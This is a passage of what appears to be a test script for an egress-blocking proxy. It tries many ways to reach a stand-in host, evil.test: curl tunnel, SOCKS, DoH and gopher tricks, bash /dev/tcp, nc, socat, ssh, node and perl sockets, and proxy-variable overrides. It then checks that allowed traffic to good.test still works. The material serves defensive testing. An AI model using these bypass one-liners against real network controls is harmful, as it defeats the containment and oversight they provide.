        "curl tunnel": CURL + ("-p", "-H", "Host: evil.test",
                               "http://good.test/"),
        "curl socks": CURL + ("--socks5-hostname", "%s:%d" % PROXY, E80),
        "curl socks4": CURL + ("--socks4a", "%s:%d" % PROXY, E80),
        "curl haproxy": CURL + ("--haproxy-protocol", "--noproxy", "*", E80),
        "curl http2": CURL + ("--http2-prior-knowledge", "--noproxy", "*", E80),
        "curl http3": CURL + ("--http3-only", E443),
        "curl doh": CURL + ("--doh-url", "https://8.8.8.8/dns-query",
                            "--noproxy", "*", E80),
        "curl dns server": CURL + ("--dns-servers", "8.8.8.8", "--noproxy",
                                   "*", E80),
        "curl interface": CURL + ("--interface", "lo", "--noproxy", "*", E80),
        "curl path": CURL + ("--path-as-is", "http://good.test/../evil.test/"),
        "curl tftp": CURL + ("tftp://" + EVIL + "/x",),
        "curl gopher": CURL + ("gopher://" + EVIL + ":80/_GET%20/",),
        "curl telnet": CURL + ("telnet://" + EVIL + ":80",),
        "wget": ("wget", "-qO-", "-t1", "-T30", "--no-proxy", E80),
        "bash tcp": ("bash", "-c", "exec 3<>/dev/tcp/%s/80; printf 'GET / "
                     "HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3" % EVIL),
        "bash udp": ("bash", "-c", "echo x >/dev/udp/%s/443 && echo host="
                     % EVIL),
        "git": ("git", "ls-remote", "git://" + EVIL + "/x"),
        "nc": ("nc", "-w1", EVIL, "80"), "socat": ("socat", "-",
                                                   "TCP:" + EVIL + ":80"),
        "ssh": ("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=30",
                "-o", "StrictHostKeyChecking=no", "-p", "80", EVIL),
        "openssl": ("openssl", "s_client", "-connect", EVIL + ":443"),
        "openssl good name": ("openssl", "s_client", "-servername",
                              "good.test", "-connect", EVIL + ":443"),
        "node": ("node", "-e", "require('net').connect(80,'%s',function(){"
                 "this.write('GET / HTTP/1.0\\r\\n\\r\\n')}).on('data',"
                 "()=>console.log('host=')).on('error',()=>{})" % EVIL),
        "node fetch": ("node", "-e", "fetch('%s').then(r=>r.text()).then("
                       "console.log,()=>{})" % E80),
        "perl": ("perl", "-MIO::Socket::INET", "-e", "$s = "
                 "IO::Socket::INET->new(PeerAddr=>'%s:80',Timeout=>30) or exit; "
                 "print $s qq(GET / HTTP/1.0\\r\\n\\r\\n); print <$s>" % EVIL),
        "ping": ("ping", "-c1", "-W1", EVIL)}.items():
    attempt("programs/" + name, program(*argv))
for name, env in {
        "none": {"NO_PROXY": "*", "no_proxy": "*"},
        "the name": {"NO_PROXY": ".test", "no_proxy": ".test"},
        "empty": {"http_proxy": "", "HTTP_PROXY": ""},
        "another": {"http_proxy": "http://%s:80" % EVIL}}.items():
    attempt("programs/curl no proxy: " + name, program(*CURL, E80, env=env))

# --- what must work ---------------------------------------------------------


def works(name, ok):
    print("works/" + name, "ok" if ok else "FAILED")


works("request in a tunnel", b"host=good.test path=/in" in everything(
    TUNNEL, b"GET /in HTTP/1.1\r\nHost: GOOD.test.\r\nConnection: close\r\n\r\n"))
works("request without host", b"host=good.test path=/old" in everything(
    TUNNEL, b"GET /old HTTP/1.0\r\n\r\n"))
works("two requests", everything(
    TUNNEL, b"GET /1 HTTP/1.1\r\nHost: good.test\r\n\r\n",
    b"GET /2 HTTP/1.1\r\nHost: good.test:80\r\nConnection: close\r\n\r\n"
    ).count(b"host=good.test path=/") == 2)
works("request by SOCKS", b"host=good.test path=/s" in socks(
    b"good.test", b"GET /s HTTP/1.1\r\nHost: good.test\r\n\r\n"))
works("websocket in a tunnel", everything(
    TUNNEL, b"GET /ws HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\n\r\nping").endswith(b"frame:ping"))


def banner(text):
    """A protocol that is none of ours, typed slowly."""
    s = socket.create_connection(PROXY, PATIENCE)
    s.settimeout(PATIENCE)
    s.sendall(b"CONNECT ssh.good.test:22 HTTP/1.1\r\n"
              b"Host: ssh.good.test:22\r\n\r\n")
    data = b""
    while b"fake\r\n" not in data:
        data += s.recv(100)
    for part in text:
        s.sendall(part)
        time.sleep(0.4)
    s.shutdown(socket.SHUT_WR)
    while part := s.recv(100):
        data += part
    return data.endswith(b"total %d\n" % sum(map(len, text)))


works("ssh", banner([b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"]))
works("a word that waits", banner([b"ping", b"more", b"\n"]))
works("keys of a database", banner([b"get hello\r\n", b"get /x\r\n"]))
works("a name of many labels", "names" in OPEN or query(
    "ec2-203-0-113-25.compute-1.eu-west-1.internal.deep.test", 1, "8.8.8.8",
    full=True)[3] & 15 == 3)
